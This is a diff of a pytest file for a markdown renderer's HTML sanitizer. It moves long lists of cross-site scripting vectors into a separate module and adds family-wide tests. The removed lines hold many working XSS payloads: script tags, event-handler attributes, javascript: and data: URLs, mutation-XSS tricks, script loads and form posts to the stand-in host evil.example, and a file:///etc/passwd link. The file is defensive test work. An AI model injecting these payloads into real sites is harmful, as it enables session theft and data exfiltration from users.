@@ -8,129 +8,11 @@ import pytest
 
 from lantern.kernel import markdown
 from lantern.kernel.markdown import render
+from tests.kernel.xss_vectors import EVERY, FAMILIES, MARKUP, RAW
 from tests.limits import bounded_work
 
 ALLOWED = {"a": {"href", "title", "rel"}, "ol": {"start"}}
 SCHEMES = ("http://", "https://", "mailto:")
-
-RAW = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example>",
-    "<script\x00>alert(1)</script>",
-    "<script/src=x>",
-    "<<script>alert(1)//<</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<IMG SRC=javascript:alert(1)>",
-    "<img src=https://evil.example/p.gif>",
-    "<img srcset='https://evil.example/a 1x'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x>",
-    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
-    "<math><mtext><style><img src=x onerror=alert(1)>",
-    "<math href=javascript:alert(1)>x</math>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=//evil.example>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<style>@import '//evil.example'</style>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<form action=//evil.example><input name=p>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=javascript:alert(1)>x",
-    "<video src=x onerror=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<audio src=//evil.example autoplay>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<div style='background:url(//evil.example)'>x</div>",
-    "<p style=color:red>x</p>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java&#10;script:alert(1)'>x</a>",
-    "<a onclick=alert(1)>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!-- --!><img src=x onerror=alert(1)> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml <script>alert(1)?>",
-    "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
-    "<textarea><img src=x onerror=alert(1)>",
-    "</p><script>alert(1)</script>",
-    "<xmp><p title='</xmp><script>alert(1)</script>'>",
-    "<title><img src=x onerror=alert(1)></title>",
-    "<plaintext>",
-    "<frameset><frame src=javascript:alert(1)>",
-    "<portal src=//evil.example>",
-    "<x-tag onclick=alert(1)>x</x-tag>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<isindex action=javascript:x>",
-    "<a id=x name=y class=z>x</a>",
-    "\u0000<script>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-]
-MARKUP = [
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\nscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A&#x61vascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x]( javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](file:///etc/passwd)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "[x](//evil.example/p)",
-    "[x](/logout)",
-    "[x](#top)",
-    "[x](blob:https://evil.example/1)",
-    "[x](tel:1)",
-    "[x](ftp://evil.example/)",
-    "[x](view-source:javascript:1)",
-    "[x](https://e.org 'onmouseover=alert(1)')",
-    '[x](https://e.org "\\" onx=1 y=\\"")',
-    '[x](https://e.org" onclick="alert(1))',
-    "![x](https://evil.example/pixel.gif)",
-    "![x](javascript:alert(1))",
-    '![x" onerror="alert(1)](https://e.org/x)',
-    "![<script>alert(1)</script>](https://e.org/x)",
-    "![x][r]\n\n[r]: //evil.example",
-    "[![x](https://evil.example/a)](https://e.org)",
-    "[x][r]\n\n[r]: javascript:alert(1)",
-    "[r]\n\n[r]: data:text/html,x",
-    "<javascript:alert(1)>",
-    '<https://e.org/?"onclick=alert(1)>',
-    "<vbscript:x>",
-    "<mailto:a@e.org?body=<script>>",
-    "```<script>\nalert(1)\n```",
-    '```js" onclick="x\n<script>alert(1)</script>\n```',
-    "`<img src=x onerror=alert(1)>`",
-    "    <script>alert(1)</script>",
-    "|<script>|\n|-|\n|<img src=x onerror=1>|",
-    "# <script>alert(1)</script>",
-    "> <iframe src=//evil.example>",
-    "- <svg onload=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\\<script>alert(1)\\</script>",
-    "*<script>*alert(1)*</script>*",
-    "[a](https://e.org/<script>)",
-    "1. x\n<script>",
-    "x\n===\n<script>",
-    "~~<script>~~",
-    "99999. x",
-]
-
 
 class Witness(HTMLParser):
     """Notes everything in rendered HTML that is not on the reviewed list."""
@@ -161,10 +43,28 @@ def wrongs(html: str) -> list[str]:
     return witness.wrong
 
 
+def test_the_list_is_long_and_its_vectors_differ():
+    assert len(set(EVERY)) >= 300
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_no_vector_of_a_family_becomes_more_than_words(family):
+    for vector in FAMILIES[family]:
+        for text in (vector, f"before {vector} after", f"> - {vector}\n\n**x** {vector}"):
+            assert wrongs(render(text)) == [], vector
+
+
 @pytest.mark.parametrize("vector", RAW + MARKUP)
 def test_no_vector_becomes_more_than_words_and_honest_links(vector):
     for text in (vector, f"before {vector} after", f"> - {vector}\n\n**x** {vector}"):
         assert wrongs(render(text)) == []
+
+
+@pytest.mark.parametrize("family", FAMILIES)
+def test_the_second_guard_holds_for_a_family_where_the_first_is_off(family, monkeypatch):
+    monkeypatch.setattr(markdown, "_MARKDOWN", markdown_it.MarkdownIt("commonmark", {"html": True}))
+    for vector in FAMILIES[family]:
+        assert wrongs(render(vector)) == [], vector
 
 
 @pytest.mark.parametrize("vector", RAW[:59])
